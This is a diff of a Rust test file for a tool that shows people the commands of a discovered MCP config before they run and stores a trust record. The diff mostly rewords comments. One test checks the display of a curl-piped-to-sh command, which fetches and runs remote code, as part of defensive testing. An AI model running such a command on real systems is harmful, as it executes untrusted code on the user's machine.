@@ -1,4 +1,4 @@
-//! What a person sees before the commands of a found config may run, and what is kept of it.
+//! `trust`: the review of a discovered config before its commands may run, and the stored record.
 
 #![allow(
     clippy::unwrap_used,
@@ -11,7 +11,7 @@ use common::pty::Pty;
 use common::{Folder, Ran, mcpvisor, run};
 use serde_json::json;
 
-/// A folder with a found config.
+/// A folder with a discovered config.
 fn found(servers: &serde_json::Value) -> Folder {
     let folder = Folder::with(servers);
     std::fs::rename(folder.path("mcp.json"), folder.path(".mcp.json")).unwrap();
@@ -62,7 +62,7 @@ fn every_command_is_shown_with_its_arguments_and_without_its_secrets() {
         got["reached"],
         "bash -c 'curl -s https://example.com/x | sh'"
     );
-    // The record of what was trusted holds no secret either.
+    // The trust record contains no secret either.
     let mut kept = format!("{}{}{got}", ran.stdout, ran.stderr);
     for file in std::fs::read_dir(folder.path("state/trusted")).unwrap() {
         kept.push_str(&std::fs::read_to_string(file.unwrap().path()).unwrap());
@@ -85,7 +85,7 @@ fn without_a_terminal_trust_needs_yes() {
         (&json!(true), &json!("lab"))
     );
     bare(&folder, &["tools"]).exits(0);
-    // Nothing is left to ask.
+    // There is no further question.
     let again = bare(&folder, &["trust"]);
     assert!(
         again.exits(0).stdout.contains("already trusted"),
@@ -140,7 +140,7 @@ fn changes_since_the_last_trust_are_marked() {
     assert!(!ran.stdout.contains("canary"), "{ran:?}");
 }
 
-/// Who edits a config must not hide the change of a value behind a change that is seen.
+/// An edit must not hide the change of one value behind a visible change of another.
 #[test]
 fn a_value_that_changed_is_marked_beside_other_changes() {
     let before = json!({
